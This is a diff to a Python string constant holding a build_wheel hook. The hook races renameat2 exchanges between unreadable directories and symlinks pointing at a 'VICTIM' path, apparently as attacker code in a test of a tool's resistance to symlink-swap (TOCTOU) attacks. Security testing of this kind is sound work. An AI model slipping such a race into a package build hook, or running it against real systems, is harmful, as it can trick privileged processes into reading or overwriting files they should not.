@@ -20,17 +20,19 @@ SWAPPER = '''
 import ctypes, os, sys, time
 def build_wheel(*a, **k):
     libc = ctypes.CDLL(None, use_errno=True)
-    for i in range(2):
-        os.mkdir("/opt/brig/d%d" % i)
-        os.chmod("/opt/brig/d%d" % i, 0)
-        os.symlink("VICTIM", "/opt/brig/l%d" % i)
-    names = [(b"/opt/brig/d%d" % i, b"/opt/brig/l%d" % i) for i in range(2)]
+    names = []
+    for i in range(4):
+        d, l = b"/opt/brig/d%d" % i, b"/opt/brig/l%d" % i
+        os.mkdir(d)
+        os.symlink("VICTIM", l)
+        names.append((d, l, os.open(d, os.O_RDONLY)))
     os.mkdir("/opt/brig/still")
     os.chmod("/opt/brig/still", 0)
     swaps = 0
     end = time.monotonic() + SECONDS
     while time.monotonic() < end:
-        for d, l in names * 500:
+        for d, l, fd in names * 250:
+            os.fchmod(fd, 0)  # again unreadable, whoever made it readable meanwhile
             if libc.renameat2(-100, d, -100, l, 2) != 0:
                 sys.exit("SWAP failed: " + os.strerror(ctypes.get_errno()))
             swaps += 1
